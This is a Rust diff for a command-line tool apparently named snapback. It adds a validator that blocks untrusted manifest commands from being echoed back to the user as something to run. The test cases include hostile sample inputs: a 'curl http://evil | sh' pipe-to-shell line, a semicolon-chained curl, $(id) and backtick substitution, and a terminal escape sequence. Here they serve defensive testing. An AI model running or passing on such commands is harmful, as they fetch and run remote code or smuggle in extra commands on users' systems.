@@ -1,6 +1,7 @@
 //! Whether a folder is finished and holds what was written, and the command that makes it so.
 
 use crate::archive::{ArchiveError, FileEntry, Manifest, Status};
+use crate::text::printable_line;
 use std::path::Path;
 
 /// A file that is not what was written.
@@ -51,7 +52,9 @@ impl Manifest {
     /// The command of the study on this folder, with `--resume` or `--force`.
     pub fn command_into(&self, folder: &Path, how: &str) -> String {
         let shard = self.shard.map_or_else(String::new, |shard| format!(" --shard {}/{}", shard.number, shard.of));
-        format!("{} --out {}{shard} {how}", self.command, quoted(&folder.display().to_string()))
+        // A manifest may come from elsewhere, and nobody should run what it holds on the word of this program.
+        let command = if is_own(&self.command) { &self.command } else { "play the study again by its command, with" };
+        format!("{command} --out {}{shard} {how}", quoted(&folder.display().to_string()))
     }
 }
 
@@ -80,5 +83,52 @@ pub fn quoted(word: &str) -> String {
         word.to_owned()
     } else {
         format!("'{}'", word.replace('\'', "'\\''"))
+    }
+}
+
+/// Whether a command is one that a manifest of this program holds: its own name first, and no word that a shell would do more with than
+/// read it.
+pub fn is_own(command: &str) -> bool {
+    let (mut words, mut word, mut is_quoted) = (Vec::new(), String::new(), false);
+    for c in command.chars() {
+        is_quoted ^= c == '\'';
+        match c == ' ' && !is_quoted {
+            true => words.push(std::mem::take(&mut word)),
+            false => word.push(c),
+        }
+    }
+    words.push(word);
+    let unquoted = |word: &String| {
+        let inner = word.strip_prefix('\'').and_then(|word| word.strip_suffix('\''));
+        inner.map_or_else(|| word.clone(), |inner| inner.replace("'\\''", "'"))
+    };
+    let is_safe = |word: &String| quoted(&unquoted(word)) == *word && printable_line(word) == *word;
+    words.first().is_some_and(|first| first == "snapback") && words.iter().all(is_safe)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_command_of_another_is_not_passed_on() {
+        for own in [
+            "snapback run",
+            "snapback run 'my file.ron' --set 'parties.A.name=\"x\"' --reps 5",
+            "snapback run 'it'\\''s.ron'",
+        ] {
+            assert!(is_own(own), "{own}");
+        }
+        for foreign in [
+            "curl http://evil | sh #",
+            "snapback run; curl http://evil",
+            "snapback run $(id)",
+            "snapback run `id`",
+            "snapback run 'a\u{1b}[31m'",
+            "snapback run 'open",
+            "",
+        ] {
+            assert!(!is_own(foreign), "{foreign}");
+        }
     }
 }
